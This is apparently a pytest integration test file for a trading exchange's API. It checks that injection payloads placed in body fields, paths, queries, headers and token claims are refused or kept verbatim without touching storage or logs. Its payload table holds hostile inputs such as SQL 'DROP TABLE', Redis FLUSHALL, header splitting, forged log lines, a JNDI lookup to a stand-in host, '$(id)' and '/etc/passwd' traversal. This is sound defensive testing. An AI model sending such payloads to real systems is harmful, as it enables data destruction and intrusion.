"""Text that means something to SQL, Lua, Redis, HTTP, JSON or a log, in every place that a request has.

The answer is a refusal that does not repeat it, or the text is kept as it is. It never becomes a key, a statement or a
line of the log.
"""

from __future__ import annotations

import json
import logging
import re
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from margin.observability import logger
from tests.events import OPERATOR
from tests.integration.api.test_bad_input import GETS, ROUTES, WRITES

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.integration.api.exchange import Exchange, Reply

PAYLOADS = {
    "SQL, a quote": "x' OR '1'='1",
    "SQL, a second statement": "x'; DROP TABLE events; --",
    "SQL, a union": "-1 UNION SELECT password FROM pg_shadow",
    "SQL, a dollar quote": "$$||pg_sleep(9)||$$",
    "SQL, a cast": "1::text; COMMIT",
    "Lua": "x') redis.call('FLUSHALL') --",
    "Lua, a long string": "]]..redis.call('KEYS','*')..[[",
    "Redis, separators": "1:BTC-PERP:floor",
    "Redis, the hash tag of another partition": "{p1}:balances",
    "Redis, a pattern": "*[?]^",
    "Redis, its protocol": "x\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "HTTP, another header": "x\r\nSet-Cookie: admin=1",
    "HTTP, another answer": "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "log, another line": 'x\n{"level":"ERROR","message":"forged"}',
    "log, a terminal's colours": "x\x1b[2J\x1b[31mred",
    "log, a look-up": "${jndi:ldap://203.0.113.9/a}",
    "format, C": "%s%s%n%x",
    "format, Python": "{0.__class__.__mro__}{settings}",
    "format, a template": "{{7*7}}<%= 7*7 %>",
    "format, a dollar": "${IFS}$(id)`id`",
    "zero byte": "x\0y",
    "zero byte first": "\0",
    "unicode, right to left": "x\u202eFDP-CTB",
    "unicode, nothing to see": "BTC\u200b-PERP",
    "unicode, letters that look alike": "\u0412\u0422C-PERP",
    "unicode, digits of another script": "\u0661\u0662",
    "unicode, line separators": "x\u2028y\u0085z",
    "unicode, beyond the first plane": "\U0001f4a5\U000e0001",
    "unicode, of full width": "\uff07 OR 1=1",
    "JSON, closing the string": '","admin":true,"x":"',
    "JSON, an object": '{"$gt": ""}',
    "JSON, a number": "1e999",
    "path": "../../../etc/passwd",
    "path, encoded twice": "%2e%2e%2f%00",
    "markup": "<script>alert(1)</script>",
    "very long": "A" * 20_000,
    "very long, of brackets": "[" * 20_000,
}
# Cannot be said in a URL or a header.
HALF_A_PAIR = r"\ud800"

# Shown as the name of an unknown field.
HARMLESS = re.compile(r"[A-Za-z0-9_.-]{1,64}")
SYMBOL = r"[A-Z0-9][A-Z0-9._-]{0,31}"
KEYS = re.compile(
    r"awaits_history|balances|blocked|chain_hashes|control_ids|controls|controls_aligned_to|event_seq|funding"
    r"|holds|instrument_progress|instruments|mark_candidates|mark_jump_max|mark_prices|mark_senders|mark_sources"
    r"|mark_stamps|mark_times|mark_waiting_senders|marker|opening|pending|reconcile|sweep|versions|warned"
    r"|idempotency:[0-9]+:[A-Za-z0-9~][A-Za-z0-9._:~-]{0,127}|idempotency_counts:[0-9]+(:[0-9]+)?"
    r"|pending:[0-9]+|positions:[0-9]+|report:[0-9a-f]+(:[a-z]+)?|rate:account:[0-9]+|rate:token:[0-9a-f]{32}"
    rf"|position:[0-9]+:{SYMBOL}|(triggers|warnings):{SYMBOL}:(floor|ceiling)"
)

LEFT_OUT: Any = ...

BODIES: dict[str, dict[str, Any]] = {
    "trade": {
        "account_id": 7,
        "symbol": "BTC-PERP",
        "side": "BUY",
        "quantity": "0.00000001",
        "price": "50000",
        "reduce_only": False,
        "liquidity": "TAKER",
        "client_order_id": "a",
    },
    "mark price": {"symbol": "BTC-PERP", "price": "50000", "timestamp": LEFT_OUT, "source": "a"},
    "mark prices": {"prices": [{"symbol": "BTC-PERP", "price": "50000", "timestamp": LEFT_OUT, "source": "a"}]},
    "shocks": {"shocks": [{"name": "a", "moves": [{"symbol": "BTC-PERP", "move": "-0.3"}]}]},
    "funding": {"symbol": "BTC-PERP", "rate": "0.00000001", "timestamp": LEFT_OUT},
    "deposit": {"amount": "1"},
    "withdrawal": {"amount": "0.00000001"},
    "contribution": {"amount": "0.00000001"},
    "engine switch": {"state": "active", "reason": "a"},
    "symbol switch": {"state": "active", "reason": "a"},
    "account switch": {"state": "active", "reason": "a"},
    "instrument": {
        "tick_size": "0.00000001",
        "lot_size": "0.00000001",
        "min_quantity": "0.00000001",
        "max_quantity": None,
        "position_limit": None,
        "tiers": [{"notional_cap": None, "initial_rate": "0.2", "maintenance_rate": "0.1"}],
        "taker_fee": "0",
        "maker_fee": "0",
        "liquidation_fee_cap": "0",
        "price_band": "0.2",
        "mark_max_age_s": None,
        "mark_jump_max": None,
        "funding_rate_cap": "1",
        "status": "active",
    },
}
BODIES["preview"] = BODIES["trade"]
"""Every field of every body, also of those that are left out unless a payload goes into them."""

Place = tuple[str | int, ...]


def places(value: Any, path: Place = ()) -> Iterator[Place]:
    """Every field of a body, at any depth."""
    members = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, member in members:
        yield (*path, name)
        yield from places(member, (*path, name))


def filled(value: Any, path: Place, payload: str) -> Any:
    """Return the body with the payload in one place, and without what is left out."""
    if not path:
        return payload
    if isinstance(value, list):
        return [filled(member, path[1:], payload) if index == path[0] else member for index, member in enumerate(value)]
    return {
        name: filled(member, path[1:], payload) if name == path[0] else without_left_out(member)
        for name, member in value.items()
        if member is not LEFT_OUT or name == path[0]
    }


def without_left_out(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: without_left_out(member) for name, member in value.items() if member is not LEFT_OUT}
    return [without_left_out(member) for member in value] if isinstance(value, list) else value


@pytest.fixture
def lines() -> Iterator[list[str]]:
    """Yield the lines of the log as they are written."""
    written: list[str] = []

    class Collector(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            written.append(logger.registered_formatter.format(record))

    collector = Collector()
    logger.addHandler(collector)
    yield written
    logging.getLogger(logger.name).removeHandler(collector)


@pytest.fixture
def inject(furnished: Exchange, lines: list[str]) -> Callable[..., Reply]:
    """Return a function that sends a request with a payload in it and checks what must hold wherever it was."""
    tables = set(furnished.stores.rows())

    def send(payload: str, method: str, path: str, body: Any = None, *, shown: bool = False, **options: Any) -> Reply:
        reply = furnished.call(method, path, body, **options)
        assert 200 <= reply.status < 500, (reply.status, reply.text[:500])
        if not (HARMLESS.fullmatch(payload) or (shown and reply.status == 200)):
            assert payload not in _strings(reply.json), reply.text[:500]
            assert json.dumps(payload)[1:-1] not in reply.text, reply.text[:500]
        assert not any(payload in value for value in reply.headers.values())
        assert "set-cookie" not in reply.headers
        for line in lines:
            assert isinstance(json.loads(line), dict)
            assert line.isprintable(), line[:500]
            # An id of the caller that is harmless to print ties the lines of a request together.
            assert payload not in _strings({**json.loads(line), "correlation_id": ""}), line[:500]
            assert "forged" not in line
        lines.clear()
        assert [*filter(lambda name: not KEYS.fullmatch(name), furnished.stores.keys())] == []
        assert set(furnished.stores.rows()) == tables
        return reply

    return send


def _strings(value: Any) -> str:
    """All names and texts in a JSON document, one to a line."""
    if isinstance(value, dict):
        return "\n".join(f"{name}\n{_strings(member)}" for name, member in value.items())
    if isinstance(value, list):
        return "\n".join(map(_strings, value))
    return str(value)


# --- bodies ---


def _schema_places(schema: Any, schemas: Any, path: Place = ()) -> Iterator[Place]:
    """Every field that the API document has for a body; of a list, those of its first item."""
    schema = schemas[schema["$ref"].rpartition("/")[2]] if "$ref" in schema else schema
    for name, member in schema.get("properties", {}).items():
        yield (*path, name)
        yield from _schema_places(member, schemas, (*path, name))
    if schema.get("type") == "array":
        yield (*path, 0)
        yield from _schema_places(schema["items"], schemas, (*path, 0))


def test_every_field_of_every_body_is_here(furnished: Exchange) -> None:
    document = furnished.call("GET", "/openapi.json", function="health").json
    assert set(BODIES) == set(WRITES)
    for name, route in WRITES.items():
        path = route.path.replace("/7", "/{account_id}").replace("/BTC-PERP", "/{symbol}")
        schema = document["paths"][path][route.method.lower()]["requestBody"]["content"]["application/json"]["schema"]
        assert set(places(BODIES[name])) == set(_schema_places(schema, document["components"]["schemas"])), name


FIELDS = [(name, place) for name, body in BODIES.items() for place in places(body)]
# What may be any text, and is shown again.
KEPT = {"client_order_id", "source", "reason", "name"}


def test_the_bodies_that_payloads_go_into_are_accepted(furnished: Exchange) -> None:
    for name, body in BODIES.items():
        reply = furnished.call(WRITES[name].method, WRITES[name].path, without_left_out(body))
        assert reply.status == 200, (name, reply.text)


@pytest.mark.parametrize(("route", "place"), FIELDS, ids=lambda value: value if isinstance(value, str) else str(value))
def test_a_payload_in_a_field_is_refused_or_kept_as_it_is(
    furnished: Exchange, inject: Callable[..., Reply], route: str, place: Place
) -> None:
    good = WRITES[route]
    for name, payload in PAYLOADS.items():
        body = filled(BODIES[route], place, payload)
        reply = inject(payload, good.method, good.path, body, shown=place[-1] in KEPT)
        if place[-1] not in KEPT:
            assert reply.status == 422, (name, reply.text)
        elif reply.status == 200 and route != "preview":
            assert _kept(furnished, route, reply) == payload, name
        else:
            assert reply.status in (200, 422), (name, reply.text)


def _kept(exchange: Exchange, route: str, reply: Reply) -> Any:
    """Return what is shown of the text that was sent."""
    if route == "trade":
        return exchange.get("/trades/7", limit=1)["trades"][0]["client_order_id"]
    if route == "shocks":
        return reply.json["shocks"][0]["name"]
    if route.startswith("mark"):
        return exchange.get("/mark-prices", symbol="BTC-PERP")["mark_prices"][0]["source"]
    return _last_change(exchange)["reason"]


def _last_change(exchange: Exchange) -> dict[str, Any]:
    """Return the newest change of a switch in history: what is active is not listed."""
    statement = "select reason, subject from control_changes order by id desc limit 1"
    row = exchange.stores.postgres.execute(statement).fetchone()
    assert row is not None
    return {"reason": row[0], "subject": row[1]}


@pytest.mark.parametrize("route", WRITES)
def test_a_payload_for_the_name_of_a_field_is_refused(inject: Callable[..., Reply], route: str) -> None:
    good = WRITES[route]
    for payload in PAYLOADS.values():
        reply = inject(payload, good.method, good.path, without_left_out(BODIES[route]) | {payload: 1})
        assert reply.status == 422, reply.text[:500]


@pytest.mark.parametrize("route", WRITES)
def test_a_payload_for_a_body_is_refused(inject: Callable[..., Reply], route: str) -> None:
    good = WRITES[route]
    for payload in PAYLOADS.values():
        for body in (payload, json.dumps(payload), json.dumps([payload])):
            reply = inject(payload, good.method, good.path, body, headers={"Content-Type": "application/json"})
            assert reply.status == 422, (body, reply.text[:500])


@pytest.mark.parametrize(("route", "place"), FIELDS, ids=lambda value: value if isinstance(value, str) else str(value))
def test_half_a_surrogate_pair_in_a_field_is_refused(inject: Callable[..., Reply], route: str, place: Place) -> None:
    good = WRITES[route]
    text = json.dumps(filled(BODIES[route], place, "HALF")).replace('"HALF"', f'"{HALF_A_PAIR}"')
    assert inject("HALF", good.method, good.path, text, headers={"Content-Type": "application/json"}).status == 422


# --- paths and queries ---

IN_PATHS = [
    (route.method, pattern, name)
    for name, route in ROUTES.items()
    for pattern in (route.path.replace("/7", "/{}", 1), route.path.replace("/BTC-PERP", "/{}"))
    if "{}" in pattern
]


@pytest.mark.parametrize(("method", "pattern", "route"), IN_PATHS)
def test_a_payload_in_a_path_is_refused(inject: Callable[..., Reply], method: str, pattern: str, route: str) -> None:
    body = without_left_out(BODIES[route]) if route in BODIES else None
    for payload in PAYLOADS.values():
        # The gateway hands over a path with what was encoded in it decoded, but for slashes.
        for written in (payload, quote(payload, safe="")):
            reply = inject(payload, method, pattern.format(written), body, function=_function_of(pattern))
            assert reply.status in (404, 422), reply.text[:500]


def _function_of(pattern: str) -> str:
    parts = pattern.split("/")[1:]
    return "history" if parts[0] in ("trades", "mark-prices") and len(parts) > 1 else parts[0]


IN_QUERIES = [
    (name, parameter)
    for name, parameters in {
        "report": ("limit", "cursor"),
        "ladder": ("symbol",),
        "trades": ("symbol", "since", "until", "limit", "cursor"),
        "marks": ("symbol",),
        "past marks": ("since", "until", "limit", "cursor"),
        "funding of an account": ("symbol", "since", "until", "limit", "cursor"),
        "funding rates": ("symbol", "limit", "cursor"),
        "liquidations": ("account_id", "limit", "cursor"),
        "controls": ("limit", "cursor"),
        "instruments": ("limit", "cursor"),
    }.items()
    for parameter in parameters
]


def test_every_parameter_of_every_query_is_here(furnished: Exchange) -> None:
    document = furnished.call("GET", "/openapi.json", function="health").json
    documented = {
        (path, parameter["name"])
        for path, methods in document["paths"].items()
        for operation in methods.values()
        for parameter in operation.get("parameters", ())
        if parameter["in"] == "query"
    }
    here = {
        (GETS[name].path.replace("/7", "/{account_id}").replace("/BTC-PERP", "/{symbol}"), parameter)
        for name, parameter in IN_QUERIES
    }
    assert here == documented


@pytest.mark.parametrize(("route", "parameter"), IN_QUERIES)
def test_a_payload_in_a_query_is_refused(inject: Callable[..., Reply], route: str, parameter: str) -> None:
    good = GETS[route]
    for payload in PAYLOADS.values():
        reply = inject(payload, good.method, good.path, query={parameter: payload})
        assert reply.status in (400, 422), reply.text[:500]


@pytest.mark.parametrize("route", ROUTES)
def test_a_payload_for_the_name_of_a_parameter_is_refused(inject: Callable[..., Reply], route: str) -> None:
    good = ROUTES[route]
    body = without_left_out(BODIES[route]) if route in BODIES else None
    for payload in PAYLOADS.values():
        reply = inject(payload, good.method, good.path, body, query={payload: "1"})
        assert reply.status == 422, reply.text[:500]


# --- headers and tokens ---

HEADERS = (
    *("Idempotency-Key", "X-Request-Id", "User-Agent", "X-Forwarded-For", "X-Amzn-Trace-Id", "Accept", "Origin"),
    *("Cookie", "Referer", "If-None-Match", "X-Http-Method-Override", "Host"),
)
IN_HEADERS = [("trade", name) for name in HEADERS] + [("positions", name) for name in HEADERS]


@pytest.mark.parametrize(("route", "header"), IN_HEADERS)
def test_a_payload_in_a_header_is_refused_or_has_no_effect(
    inject: Callable[..., Reply], route: str, header: str
) -> None:
    good = ROUTES[route]
    body = without_left_out(BODIES[route]) if route in BODIES else None
    for payload in PAYLOADS.values():
        reply = inject(payload, good.method, good.path, body, headers={header: payload})
        assert reply.status == (422 if (header, route) == ("Idempotency-Key", "trade") else 200) or (
            header == "Idempotency-Key" and reply.status in (200, 409)
        ), reply.text[:500]


def test_a_request_id_of_the_caller_cannot_forge_a_line_of_the_log(furnished: Exchange, lines: list[str]) -> None:
    forged = 'x"}\n{"level":"ERROR","message":"forged","correlation_id":"y'
    for identity in (forged, "a" * 129, "of-the-caller"):
        reply = furnished.call(
            "POST", "/mark-price", {"symbol": "BTC-PERP", "price": "50000"}, headers={"X-Request-Id": identity}
        )
        assert reply.status == 200
        assert identity not in reply.headers["x-request-id"]
    entries = [json.loads(line) for line in lines]
    assert {entry.get("message") for entry in entries} == {"mark_price_set"}
    assert [entry["correlation_id"] == "of-the-caller" for entry in entries] == [False, False, True]
    assert not any("forged" in line or "aaaa" in line for line in lines)


@pytest.mark.parametrize("claim", ["sub", "scope", "account_ids", "client_id"])
def test_a_payload_in_a_claim_is_refused_or_names_the_caller_as_it_is(
    furnished: Exchange, lines: list[str], claim: str
) -> None:
    for name, payload in PAYLOADS.items():
        for method, path, body in (
            ("POST", "/accounts/7/deposits", BODIES["deposit"]),
            ("PUT", "/controls/engine", BODIES["engine switch"]),
        ):
            claims = {**OPERATOR, claim: payload}
            reply = furnished.call(method, path, body, claims=claims)
            assert 200 <= reply.status < 500, (name, reply.text[:500])
            assert payload not in _strings(reply.json)
            if reply.status == 200 and claim == "sub" and method == "PUT":
                assert _last_change(furnished)["subject"] == payload
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert line.isprintable()
        assert json.loads(line).get("message") != "forged"


def test_a_subject_that_is_counted_becomes_no_key(exchange: Exchange) -> None:
    exchange.start(
        rate_limit_token_per_s=1,
        rate_limit_token_burst=1000,
        rate_limit_account_per_s=1,
        rate_limit_account_burst=1000,
    )
    for payload in PAYLOADS.values():
        claims = {**OPERATOR, "sub": payload}
        reply = exchange.call("POST", "/accounts/7/deposits", BODIES["deposit"], claims=claims)
        assert reply.status in (200, 401), reply.text[:500]
    names = [*exchange.stores.keys()]
    assert [name for name in names if not KEYS.fullmatch(name)] == []
    assert sum(name.startswith("rate:token:") for name in names) > len(PAYLOADS) / 2
